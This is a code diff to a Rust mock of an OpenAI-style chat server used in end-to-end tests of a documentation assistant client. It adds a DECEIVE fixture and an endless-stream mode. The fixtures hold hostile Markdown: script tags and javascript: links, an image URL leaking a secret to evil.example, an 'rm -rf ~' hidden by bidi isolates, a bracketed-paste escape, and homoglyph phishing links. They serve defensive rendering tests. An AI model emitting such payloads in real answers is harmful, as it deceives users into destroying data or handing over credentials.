@@ -8,6 +8,8 @@
 //! | `NOTCOVERED` | streams "The documentation does not seem to cover this." (the model declining) |
 //! | `CITECHECK` | streams two sentences citing [1], the e2e site's install page: one from it, one not (the citation check's marker) |
 //! | `HOSTILE` | streams hostile Markdown (script tags, `javascript:` links, foreign images, an unclosed fence, `[99]`) |
+//! | `DECEIVE` | streams Markdown that shows one thing and copies or links another (bidi isolates and `ESC[201~` in code, a look-alike host) |
+//! | `ENDLESS` | 1 KB chunks without a pause for 60 s (an upstream that ignores `max_tokens`; the client leaves first) |
 //! | `SLOW` | 200 chunks, 100 ms apart (Stop / disconnect tests) |
 //! | `ERROR500` | HTTP 500 with an OpenAI error body |
 //! | `RATE429` | HTTP 429 with `Retry-After: 7` |
@@ -68,6 +70,13 @@ and run the install script [1]. The script copies the frob binary into /usr/loca
 pub const HOSTILE_ANSWER: &str = "Here is the answer [1].\n\n<img src=x onerror=\"window.__pwned=1\">\n\n\
 <script>window.__pwned=1</script>\n\n[click](javascript:window.__pwned=1) and [x](&#106;avascript:window.__pwned=1)\n\n\
 ![i](https://evil.example/leak?q=secret)\n\nSee also [99].\n\n```js\nwindow.__pwned = 1;\n";
+
+/// The Markdown streamed for `DECEIVE`: code that reads in another order than it copies (bidi
+/// isolates), a control sequence that ends a terminal's bracketed paste, and links to a host
+/// spelt with a Cyrillic `о` so it reads as `docs.example.com`.
+pub const DECEIVE_ANSWER: &str = "Run this [1]:\n\n```sh\nrm -rf ~ \u{2067}# \u{2066}echo safe\u{2069}\u{2069}\n\
+echo done\u{1b}[201~\n```\n\nThen sign in at [https://d\u{43e}cs.example.com/login](https://d\u{43e}cs.example.com/login) \
+or on [the docs site](https://d\u{43e}cs.example.com/).\n";
 
 /// One request the double received, as listed by `GET /_requests`.
 #[derive(Debug, Clone, serde::Serialize)]
@@ -278,6 +287,8 @@ enum Plan {
         /// During the stall, send an SSE comment (`: ping`) every 200 ms.
         ping: bool,
         error_after: Option<usize>,
+        /// Send the pieces over and over until this much time has passed (or the client left).
+        endless: Option<Duration>,
     },
 }
 
@@ -435,12 +446,14 @@ async fn chat(
                 stall_after: None,
                 ping: false,
                 error_after: None,
+                endless: None,
             },
         )
     } else if let Some(text) = [
         ("NOTCOVERED", NOT_COVERED_ANSWER),
         ("CITECHECK", CITECHECK_ANSWER),
         ("HOSTILE", HOSTILE_ANSWER),
+        ("DECEIVE", DECEIVE_ANSWER),
     ]
     .iter()
     .find(|(keyword, _)| last_user.contains(keyword))
@@ -455,6 +468,22 @@ async fn chat(
                 stall_after: None,
                 ping: false,
                 error_after: None,
+                endless: None,
+            },
+        )
+    } else if last_user.contains("ENDLESS") {
+        // An upstream that ignores max_tokens and does not stop: 1 KB pieces without a pause,
+        // for a minute (the client leaves first).
+        let piece = "This answer goes on and on without end. ".repeat(25);
+        (
+            piece.clone(),
+            Plan::Chunks {
+                pieces: vec![piece],
+                delay: Duration::ZERO,
+                stall_after: None,
+                ping: false,
+                error_after: None,
+                endless: Some(Duration::from_secs(60)),
             },
         )
     } else if last_user.contains("SLOW") {
@@ -467,6 +496,7 @@ async fn chat(
                 stall_after: None,
                 ping: false,
                 error_after: None,
+                endless: None,
             },
         )
     } else if last_user.contains("HOLD") {
@@ -479,6 +509,7 @@ async fn chat(
                 stall_after: None,
                 ping: false,
                 error_after: None,
+                endless: None,
             },
         )
     } else if last_user.contains("MIDSTREAM_ERROR") {
@@ -491,6 +522,7 @@ async fn chat(
                 stall_after: None,
                 ping: false,
                 error_after: Some(5),
+                endless: None,
             },
         )
     } else if last_user.contains("STALLMID") || last_user.contains("STALLPING") {
@@ -503,6 +535,7 @@ async fn chat(
                 stall_after: Some(3),
                 ping: last_user.contains("STALLPING"),
                 error_after: None,
+                endless: None,
             },
         )
     } else {
@@ -515,6 +548,7 @@ async fn chat(
                 stall_after: None,
                 ping: false,
                 error_after: None,
+                endless: None,
             },
         )
     };
@@ -542,7 +576,8 @@ async fn chat(
         .into_response();
     }
 
-    let Plan::Chunks { pieces, delay, stall_after, ping, error_after } = plan;
+    let Plan::Chunks { pieces, delay, stall_after, ping, error_after, endless } = plan;
+    let until = endless.map(|d| tokio::time::Instant::now() + d);
     let (tx, rx) = mpsc::channel::<Result<Bytes, std::io::Error>>(4);
     let st2 = st.clone();
     tokio::spawn(async move {
@@ -553,9 +588,10 @@ async fn chat(
         let mut ok =
             send(ctx.chunk(json!({"role": "assistant", "content": "", "refusal": null}), None))
                 .await;
-        let mut sent_text = String::new();
-        for (i, piece) in pieces.iter().enumerate() {
-            if !ok {
+        let mut sent_len = 0usize;
+        for (i, piece) in pieces.iter().cycle().enumerate() {
+            let more = until.is_some_and(|u| tokio::time::Instant::now() < u);
+            if !ok || (i >= pieces.len() && !more) {
                 break;
             }
             if i > 0 && !delay.is_zero() {
@@ -590,13 +626,13 @@ async fn chat(
                 return;
             }
             ok = send(ctx.chunk(json!({"content": piece}), None)).await;
-            sent_text.push_str(piece);
+            sent_len += piece.len();
         }
         if ok {
             ok = send(ctx.chunk(json!({}), Some("stop"))).await;
         }
         if ok && ctx.include_usage {
-            ok = send(ctx.usage_chunk(approx_tokens(&sent_text))).await;
+            ok = send(ctx.usage_chunk((sent_len as u64).div_ceil(4).max(1))).await;
         }
         if ok {
             ok = send("data: [DONE]\n\n".to_string()).await;
